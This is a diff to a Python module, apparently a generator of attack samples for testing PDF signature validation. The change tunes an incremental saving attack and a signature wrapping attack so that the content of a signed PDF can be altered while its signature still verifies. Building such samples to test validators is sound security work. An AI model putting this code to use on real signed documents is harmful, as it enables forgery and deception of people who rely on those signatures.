@@ -186,9 +186,18 @@ def add_free_text(pdf: bytes, text: str) -> bytes:
     return _written(writer)
 
 
-def replace_page_content(pdf: bytes, text: str) -> bytes:
+class _MetadataUntouchedWriter(IncrementalPdfFileWriter):
+    """Writes only what the attack changes: pyHanko would also rewrite the Info dictionary and
+    a PDF/A memo's XMP packet, too many bytes for the wrapping attack's hiding place."""
+
+    def _update_meta(self) -> None:
+        pass
+
+
+def replace_page_content(pdf: bytes, text: str, *, only_the_page: bool = False) -> bytes:
     """An incremental update that draws over page 1 (incremental saving attack)."""
-    writer = _writer(pdf)
+    writer = (_MetadataUntouchedWriter(io.BytesIO(pdf), strict=False) if only_the_page
+              else _writer(pdf))
     page_ref, _ = writer.find_page_for_modification(0)
     stream = writer.add_object(generic.StreamObject(stream_data=(
         f"q 1 1 1 rg {RECT[0]} {RECT[1]} {RECT[2] - RECT[0]} {RECT[3] - RECT[1]} re f Q "
@@ -237,7 +246,7 @@ def wrapped_signature(pdf: bytes, text: str) -> bytes:
     dictionary now carries (so the dictionary still parses, and the signature still checks);
     a new cross-reference section appended at the end points into that string, where a reader
     going by offsets finds the objects. Two readings of one byte range: that is the class."""
-    changed = replace_page_content(pdf, text)
+    changed = replace_page_content(pdf, text, only_the_page=True)
     update = changed[len(pdf):]
     objects_end = update.index(b"xref")
     objects, xref_section = update[:objects_end], update[objects_end:]
